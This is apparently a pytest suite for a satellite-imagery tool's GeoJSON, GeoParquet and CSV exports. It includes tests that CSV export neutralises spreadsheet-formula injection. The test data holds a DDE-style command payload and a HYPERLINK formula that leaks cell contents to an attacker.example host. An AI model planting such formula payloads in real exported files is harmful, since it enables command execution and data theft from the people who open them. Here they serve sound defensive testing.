"""Exports a GIS opens: GeoJSON through GDAL/OGR (pyogrio), GeoParquet 1.1 through geopandas, geoarrow and
DuckDB's spatial extension, CSV with WKT; geometries are the windows' true footprints; dissolve; errors."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import duckdb
import numpy as np
import pyarrow.parquet as pq
import pyogrio
import pytest
import rasterio
import shapely

import rsclip
from rsclip.app.cli import main
from rsclip.geo import footprints
from rsclip.table import labels, tiles
from rsclip.errors import InvalidInput, NotFound
from rsclip.search import export as ex
from tests.helpers.geo import NAIP, detected_scene_table
from tests.helpers import GEOTIFF_DIR, spread_files, write_scene_table
from tests.geo.test_footprints import corners_wgs84


@pytest.fixture(scope="module")
def scenes(tmp_path_factory, tiny_model):
    """NAIP and Landsat scenes cut into 128 px tiles, a label set and its detections."""
    db = tmp_path_factory.mktemp("export") / "db"
    return (db, *detected_scene_table(db, tiny_model))


def spatial_duckdb() -> duckdb.DuckDBPyConnection:
    """DuckDB with the spatial extension loaded from its wheel (no download)."""
    import duckdb_extension_spatial

    found = list(Path(duckdb_extension_spatial.__file__).parent.glob(f"extensions/v{duckdb.__version__}/*.duckdb_extension"))
    assert found, f"no spatial extension for DuckDB {duckdb.__version__}"
    con = duckdb.connect()
    con.execute(f"LOAD '{found[0]}'")
    return con


def test_geoparquet_opens_in_geopandas_geoarrow_and_duckdb(scenes, tmp_path):
    import geopandas as gpd
    import geoarrow.pyarrow as ga

    db, rows, ids, naip = scenes
    out = tmp_path / "fields.parquet"
    result = rsclip.export(db, str(out), detections="fields", min_score=0.0)
    assert result.format == "geoparquet" and result.rows == len(ids)
    geo = json.loads(pq.read_schema(out).metadata[b"geo"])
    assert geo["version"] == "1.1.0" and geo["primary_column"] == "geometry"
    assert geo["columns"]["geometry"]["encoding"] == "WKB" and "covering" in geo["columns"]["geometry"]
    frame = gpd.read_parquet(out)
    assert frame.crs.to_string() == "OGC:CRS84" and len(frame) == len(ids)
    assert {"id", "uri", "window", "score", "crs", "label", "model_version"} <= set(frame.columns)
    assert frame["score"].is_monotonic_decreasing
    table = pq.read_table(out)
    assert len(ga.to_geopandas(ga.with_crs(ga.wkb().wrap_array(table["geometry"].combine_chunks()), ga.OGC_CRS84))) \
        == len(ids)
    con = spatial_duckdb()
    counted, area = con.execute(
        f"SELECT count(*), sum(ST_Area(geometry)) FROM read_parquet('{out}') WHERE ST_Intersects(geometry, "
        "ST_MakeEnvelope(-100, 46, -98, 48))").fetchone()
    naip_area = sum(g.area for g, uri in zip(frame.geometry, frame.uri) if uri.endswith(NAIP))  # degrees squared
    assert counted == len(naip) and area == pytest.approx(naip_area, rel=1e-9)


def test_geojson_and_csv_open_with_ogr_and_hold_the_windows_transformed_corners(scenes, tmp_path):
    db, rows, ids, naip = scenes
    for name in ("hits.geojson", "hits.csv"):
        out = tmp_path / name
        rsclip.export(db, str(out), positive=naip[:2], k=50)
        info = pyogrio.read_info(out)
        assert info["features"] == 50
        frame = pyogrio.read_dataframe(out)
        assert frame.geometry.notna().all() and not set(frame["id"]) & set(naip[:2])
        for _, feature in frame.head(10).iterrows():
            x, y, w, h = (int(v) for v in feature["window"].split(","))
            with rasterio.open(feature["uri"]) as src:
                want = corners_wgs84(src, (x, y, w, h))
            vertices = shapely.get_coordinates(feature.geometry)
            for corner in want:
                assert np.abs(vertices - corner).max(axis=1).min() < 1e-7
    text = json.loads((tmp_path / "hits.geojson").read_text())
    assert text["type"] == "FeatureCollection" and "crs" not in text  # RFC 7946: lon/lat, no crs member


def test_dissolve_merges_touching_tiles_with_their_scores(scenes, tmp_path):
    db, rows, ids, naip = scenes
    naip_area = "POLYGON((-99.3 46.9, -99.0 46.9, -99.0 47.2, -99.3 47.2, -99.3 46.9))"
    plain = ex.export_frame(db, detections="fields", min_score=0.0, polygon=naip_area)
    assert set(plain["id"]) == set(naip)
    merged = ex.export_frame(db, detections="fields", min_score=0.0, polygon=naip_area, dissolved=True)
    assert len(merged) == 1 and merged["tiles"].iloc[0] == len(naip)  # the scene's grid is one piece
    assert merged["score_max"].iloc[0] == pytest.approx(plain["score"].max(), rel=1e-6)
    assert merged["score_mean"].iloc[0] == pytest.approx(plain["score"].mean(), rel=1e-6)
    with rasterio.open(GEOTIFF_DIR / NAIP) as src:
        whole = footprints.window_footprint(src.transform, src.crs, (0, 0, src.width, src.height))
        quarter_pixel_deg = 0.25 * src.res[0] / 111_320.0
    # the union of the tiles is the scene's outline to within a quarter pixel along its edges
    assert merged.geometry.iloc[0].symmetric_difference(whole).area < whole.length * quarter_pixel_deg
    out = tmp_path / "merged.geojson"
    assert main(["export", str(db), "--detections", "fields", "--min-score", "0", "--polygon", naip_area,
                 "--dissolve", "--out", str(out), "--json"]) == 0
    assert pyogrio.read_info(out)["features"] == 1


def test_cli_export_takes_a_polygon_file_and_a_format(scenes, tmp_path, capsys):
    db, rows, ids, naip = scenes
    area = tmp_path / "area.geojson"
    area.write_text(json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {},
                    "geometry": shapely.geometry.mapping(shapely.box(-99.3, 46.9, -99.0, 47.2))}]}))
    out = tmp_path / "out.data"
    assert main(["export", str(db), "--detections", "fields", "--min-score", "0", "--polygon", str(area),
                 "--format", "geoparquet", "--out", str(out), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["rows"] == len(naip)
    assert main(["export", str(db), "--query", "farmland", "-k", "5", "--format", "csv", "--out",
                 str(tmp_path / "q.csv")]) == 0


@pytest.mark.parametrize("kwargs, error", [
    ({"detections": "fields", "min_score": 1.0}, "nothing to export"),
    ({"detections": "unknown"}, "no detections of 'unknown'"),
    ({"detections": "fields", "min_score": 2}, "min score must be"),
    ({"detections": "fields", "polygon": "POLYGON((0 0, 1 1, 1 0, 0 1, 0 0))"}, "not valid"),
    ({"positive": ["a" * 32]}, "not in table"),
    ({"query": "x", "detections": "fields"}, "export one of"),
])
def test_bad_exports_are_clear_errors_and_write_nothing(scenes, tmp_path, kwargs, error):
    db = scenes[0]
    out = tmp_path / "out.geojson"
    with pytest.raises((InvalidInput, NotFound), match=error):
        rsclip.export(db, str(out), **kwargs)
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_an_unwritable_path_or_unknown_format_is_refused(scenes, tmp_path, capsys):
    db = scenes[0]
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    with pytest.raises(InvalidInput, match=str(blocker)):
        rsclip.export(db, str(blocker / "out.geojson"), detections="fields")
    with pytest.raises(InvalidInput, match="cannot tell the format"):
        rsclip.export(db, str(tmp_path / "out.xyz"), detections="fields")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file"]
    assert main(["export", str(db), "--detections", "fields", "--out", str(blocker / "x.csv")]) == 2
    assert capsys.readouterr().err.startswith("rsclip: error:")


def test_export_to_s3(scenes, s3, s3_prefix):
    import geopandas as gpd
    import s3fs

    db = scenes[0]
    out = f"{s3_prefix}/exports/fields.parquet"
    result = rsclip.export(db, out, detections="fields", min_score=0.0)
    fs = s3fs.S3FileSystem()
    with fs.open(out, "rb") as f:
        assert len(gpd.read_parquet(f)) == result.rows


def test_review_of_many_detections_reads_their_tiles_in_one_scan_alike(scenes, monkeypatch):
    from rsclip.search import review

    db = scenes[0]
    area = "POLYGON((-99.3 46.9, -99.1 46.9, -99.1 47.2, -99.3 47.2, -99.3 46.9))"
    by_id = rsclip.review_detections(db, "fields", min_score=0.0, where="x >= 128", polygon=area)
    monkeypatch.setattr(review, "SCAN_ABOVE", 0)
    scanned = rsclip.review_detections(db, "fields", min_score=0.0, where="x >= 128", polygon=area)
    assert 0 < len(by_id) and (by_id["x"] >= 128).all()
    assert by_id.drop(columns=[tiles.FOOTPRINT]).equals(scanned.drop(columns=[tiles.FOOTPRINT]))
    with pytest.raises(InvalidInput, match="not valid SQL"):
        rsclip.review_detections(db, "fields", where="no_such_column = 1")


# Cells a spreadsheet would run (OWASP's CSV injection list: = + - @ tab carriage return).
FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"]
NOTE = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'


@pytest.fixture(scope="module")
def chips(tmp_path_factory, tiny_model, rsicd_files):
    """Six RSICD chips without georeference whose STAC item ids are formulas, labelled with a formula as note."""
    db = tmp_path_factory.mktemp("chips") / "db"
    files = spread_files(rsicd_files, len(FORMULAS))
    write_scene_table(db, tiny_model, files, item_id=FORMULAS)
    ids = [tiles.tile_id(str(f), 0, 0, 150, 150) for f in files]
    labels.add_labels(db, "odd", ids[:3], ids[3:], note=NOTE)
    return db, ids


def csv_rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_cells_a_spreadsheet_would_run_are_text_geojson_and_geoparquet_keep_them(chips, tmp_path):
    import geopandas as gpd

    db, ids = chips
    for name in ("odd.csv", "odd.geojson", "odd.parquet"):
        assert ex.export_labels(db, "odd", str(tmp_path / name)).rows == len(ids)
    rows = csv_rows(tmp_path / "odd.csv")
    assert sorted(r["item_id"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert {r["note"] for r in rows} == {"'" + NOTE}
    for row in rows:  # no text cell of any column starts a formula (value is a number: -1 stays -1)
        assert not any(v.startswith(ex.FORMULA_STARTS) for k, v in row.items() if k != "value"), row
    assert {r["value"] for r in rows} == {"1", "-1"}  # numbers stay numbers
    features = json.loads((tmp_path / "odd.geojson").read_text())["features"]
    for frame in (pd_of(features), gpd.read_parquet(tmp_path / "odd.parquet")):
        assert sorted(frame["item_id"]) == sorted(FORMULAS) and set(frame["note"]) == {NOTE}


def pd_of(features: list[dict]):
    import pandas as pd

    return pd.DataFrame([f["properties"] for f in features])


def test_csv_bytes_neutralises_every_text_column_and_nothing_else():
    import pandas as pd

    frame = pd.DataFrame({"uri": ["=cmd", "s3://b/k", "-x"], "id": ["@a", "b", "+c"], "score": [-1.5, 0.5, 2.0],
                          "n": [-3, 4, 5], "empty": [None, "", "\r\n"], "cr": ["a\rb", "\r", "c\nd"]})
    back = list(csv.DictReader(io.StringIO(ex.csv_bytes(frame).decode("utf-8"), newline="")))
    assert [r["uri"] for r in back] == ["'=cmd", "s3://b/k", "'-x"]
    assert [r["id"] for r in back] == ["'@a", "b", "'+c"]
    assert [r["score"] for r in back] == ["-1.5", "0.5", "2.0"] and [r["n"] for r in back] == ["-3", "4", "5"]
    assert [r["empty"] for r in back] == ["", "", "'\r\n"]
    assert [r["cr"] for r in back] == ["a\rb", "'\r", "c\nd"]  # quoted: a line break never splits a row
    assert frame["uri"].tolist() == ["=cmd", "s3://b/k", "-x"]  # the caller's frame is left as it was


def test_dissolve_of_tiles_without_footprints_says_why(chips, tmp_path, capsys):
    db, ids = chips
    out = tmp_path / "chips.geojson"
    assert main(["export", str(db), "--query", "farmland", "-k", "6", "--out", str(out)]) == 0
    assert pyogrio.read_info(out)["features"] == 6
    assert main(["export", str(db), "--query", "farmland", "-k", "6", "--dissolve", "--out",
                 str(tmp_path / "merged.geojson")]) == 2
    err = capsys.readouterr().err
    assert "none of the 6 matched tiles has a footprint" in err and "without dissolving" in err
    assert "no tile matched" not in err and not (tmp_path / "merged.geojson").exists()


def test_the_cli_names_its_own_format_flag(chips, tmp_path, capsys):
    db, ids = chips
    for argv in (["export", str(db), "--query", "farmland"], ["label", "export", str(db), "odd"]):
        for out in ("x.shp", "-"):
            assert main([*argv, "--out", str(tmp_path / out) if out != "-" else out]) == 2
            err = capsys.readouterr().err
            assert "pass --format one of geojson, geoparquet, csv" in err and "format=" not in err, err
    with pytest.raises(InvalidInput, match="pass format= one of"):  # the library names its keyword
        ex.export_labels(db, "odd", str(tmp_path / "x.shp"))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o027, 0o640), (0o077, 0o600)])
def test_exports_get_the_mode_the_umask_gives(chips, tmp_path, umask, mode):
    db, ids = chips
    out = tmp_path / "shared" / "odd.geojson"
    old = os.umask(umask)
    try:
        ex.export_labels(db, "odd", str(out))
        ex.export_labels(db, "odd", str(out))  # a replaced export too
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == mode
    assert [p.name for p in out.parent.iterdir()] == ["odd.geojson"]  # no temporary file left


def test_an_export_to_a_fifo_feeds_it(chips, tmp_path):
    db, ids = chips
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader is there: the export's open does not wait
    try:
        result = ex.export_labels(db, "odd", str(fifo), format="geojson")  # small: fits the pipe's buffer
        got = os.read(reader, 1 << 20)
    finally:
        os.close(reader)
    assert result.rows == len(ids) and len(json.loads(got)["features"]) == len(ids)
    assert stat.S_ISFIFO(fifo.lstat().st_mode) and os.listdir(tmp_path) == ["pipe"]  # not replaced by a file


def test_out_dev_stdout_writes_into_the_redirected_file(chips, tmp_path):
    db, ids = chips
    target = tmp_path / "out.geojson"
    target.write_bytes(b"")
    inode = target.stat().st_ino
    code = "import sys; from rsclip.app.cli import main; sys.exit(main(sys.argv[1:]))"
    with open(target, "wb") as stdout:  # one launch: a fresh interpreter imports torch
        done = subprocess.run([sys.executable, "-c", code, "label", "export", str(db), "odd", "--format", "geojson",
                               "--out", "/dev/stdout"], stdout=stdout, stderr=subprocess.PIPE, text=True,
                              timeout=600, env={**os.environ, "RUST_LOG": "error"})
    assert done.returncode == 0, done.stderr
    assert target.stat().st_ino == inode and [p.name for p in tmp_path.iterdir()] == ["out.geojson"]
    assert len(json.loads(target.read_bytes())["features"]) == len(ids)  # the summary went to stderr
    assert f"{len(ids)} labelled tiles written to /dev/stdout" in done.stderr


def test_out_dash_writes_to_stdout(chips, capfd):
    db, ids = chips
    assert main(["label", "export", str(db), "odd", "--format", "csv", "--out", "-"]) == 0
    captured = capfd.readouterr()
    assert len(list(csv.DictReader(io.StringIO(captured.out)))) == len(ids)
    assert "labelled tiles written" in captured.err
